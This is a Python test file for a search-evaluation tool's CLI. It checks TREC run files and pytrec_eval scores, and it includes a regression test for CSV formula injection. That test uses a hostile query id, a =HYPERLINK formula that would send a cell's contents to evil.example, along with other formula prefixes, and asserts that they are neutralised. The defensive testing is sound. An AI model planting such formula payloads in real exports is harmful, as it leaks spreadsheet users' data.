"""What `python -m tsqr evaluate --out` writes, checked by the reference rather than by tsqr's own readers.

Each TREC run is parsed here by hand and scored with pytrec_eval against qrels built straight from the demo's
examples.jsonl; the means must equal results.json and summary.csv. The files must also be well-formed runs:
six columns, ranks 1..n per query, scores that never increase down a ranking, unique documents.
"""
from __future__ import annotations

import csv
import json
import subprocess
import sys
from collections import defaultdict
from pathlib import Path

import pytest
from conftest import require_reference

pytestmark = pytest.mark.slow  # full CLI evaluations in subprocesses

REPO = Path(__file__).resolve().parents[1]
DEMO = REPO / "tsqr" / "data" / "demo"
# tsqr's measure -> pytrec_eval's.
TREC_NAMES = {"nDCG@10": "ndcg_cut_10", "nDCG@100": "ndcg_cut_100", "R@10": "recall_10", "R@100": "recall_100",
              "P@10": "P_10", "RR": "recip_rank", "AP": "map"}


def demo_examples() -> list[dict]:
    return [json.loads(line) for line in (DEMO / "examples.jsonl").read_text(encoding="utf-8").splitlines()]


def read_trec_by_hand(path: Path) -> dict[str, list[tuple[str, int, float]]]:
    """{query: [(doc, rank, score), ...]} in file order, refusing any line that is not a six-column run line."""
    run: dict[str, list[tuple[str, int, float]]] = defaultdict(list)
    tags = set()
    for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
        fields = line.split()
        assert len(fields) == 6 and fields[1] == "Q0", f"{path.name}:{number}: {line!r}"
        query, _, doc, rank, score, tag = fields
        run[query].append((doc, int(rank), float(score)))
        tags.add(tag)
    assert len(tags) == 1, tags
    return dict(run)


@pytest.fixture(scope="module", params=["none", "reasoning file"])
def evaluated(request, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Path]:
    """The README's command on the bundled demo, raw vs "none" (the query itself) or vs the demo's reasonings."""
    folder = tmp_path_factory.mktemp("cli")
    reasoned = "none"
    if request.param == "reasoning file":
        reasoned = str(folder / "demo_reasoned_queries.json")
        Path(reasoned).write_text(json.dumps({row["query"]: row["reasoning"] for row in demo_examples()}))
    out = folder / "out"
    command = [sys.executable, "-m", "tsqr", "evaluate", "--data", str(DEMO), "--domain", "demo",
               "--reasoned", reasoned, "--out", str(out)]
    result = subprocess.run(command, cwd=REPO, capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stderr[-2000:]
    return request.param, out


def test_trec_runs_are_well_formed(evaluated):
    _, out = evaluated
    examples = demo_examples()
    for side in ("raw", "reasoned"):
        run = read_trec_by_hand(out / f"demo.{side}.trec")
        assert set(run) == {row["id"] for row in examples}
        for query, hits in run.items():
            assert [rank for _, rank, _ in hits] == list(range(1, len(hits) + 1)), query
            scores = [score for _, _, score in hits]
            assert all(a >= b for a, b in zip(scores, scores[1:])), query
            assert len({doc for doc, _, _ in hits}) == len(hits), query
            assert 0 < len(hits) <= 1000


def test_pytrec_eval_scores_of_the_written_runs_are_the_reported_means(evaluated):
    pytrec_eval = require_reference("pytrec_eval", "pytrec_eval (pip install pytrec-eval-terrier)")
    kind, out = evaluated
    qrels = {row["id"]: {gold: 1 for gold in row["gold_ids"]} for row in demo_examples()}
    results = json.loads((out / "results.json").read_text())["demo"]
    with (out / "summary.csv").open(newline="") as handle:
        summary = {row["measure"]: row for row in csv.DictReader(handle)}
    assert set(summary) == set(results["mean"]["raw"]) == set(TREC_NAMES)
    means = {}
    for side in ("raw", "reasoned"):
        hits = read_trec_by_hand(out / f"demo.{side}.trec")
        run = {query: {doc: score for doc, _, score in ranked} for query, ranked in hits.items()}
        scored = pytrec_eval.RelevanceEvaluator(qrels, set(TREC_NAMES.values())).evaluate(run)
        assert len(scored) == len(qrels) == results["queries"]
        means[side] = {name: sum(s[trec] for s in scored.values()) / len(scored) for name, trec in TREC_NAMES.items()}
        assert results["mean"][side] == pytest.approx(means[side], rel=1e-12, abs=1e-15)
        for name, value in means[side].items():
            assert float(summary[name][side]) == pytest.approx(value, rel=1e-12, abs=1e-15), (side, name)
    for name, row in summary.items():
        assert row["domain"] == "demo" and int(row["queries"]) == len(qrels)
        assert float(row["delta"]) == pytest.approx(means["reasoned"][name] - means["raw"][name], abs=1e-12)
    if kind == "none":
        assert means["reasoned"] == means["raw"]  # "none" searches with the query itself
    else:
        assert means["reasoned"]["nDCG@10"] > means["raw"]["nDCG@10"]  # the demo's reasonings name the concept


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    """The issue's reproduction: a query id `=HYPERLINK(...)` landed raw in per_query.csv, where a spreadsheet
    runs it. Every text cell starting with = + - @ (or a tab / CR) gets a leading quote, as OWASP advises;
    scores stay numbers. Checked by reading the CSV files back."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A2)", "plain"]
    examples = tmp_path / "examples.jsonl"
    examples.write_text("".join(json.dumps({"id": qid, "query": f"why do bees dance {n}", "gold_ids": ["d1"]}) + "\n"
                                for n, qid in enumerate(hostile)))
    documents = tmp_path / "documents.jsonl"
    documents.write_text(json.dumps({"id": "d1", "content": "bees dance to share where flowers are"}) + "\n"
                         + json.dumps({"id": "d2", "content": "wasps sting"}) + "\n")
    out = tmp_path / "out"
    result = subprocess.run([sys.executable, "-m", "tsqr", "evaluate", "--data", str(examples), str(documents),
                             "--domain=-mine", "--reasoned", "none", "--out", str(out)],
                            cwd=REPO, capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stderr[-2000:]
    with (out / "per_query.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["query_id"] for row in rows} == {"'" + qid if qid[0] in "=+-@" else qid for qid in hostile}
    assert {row["domain"] for row in rows} == {"'-mine"}
    assert all(float(row["value"]) >= 0 for row in rows)
    with (out / "summary.csv").open(newline="", encoding="utf-8") as handle:
        summary = list(csv.DictReader(handle))
    assert {row["domain"] for row in summary} == {"'-mine"} and all(float(row["raw"]) >= 0 for row in summary)
    assert (out / "-mine.raw.trec").read_text().startswith('=HYPERLINK("http://evil.example/?"&A1,"click") Q0 d1 1 ')
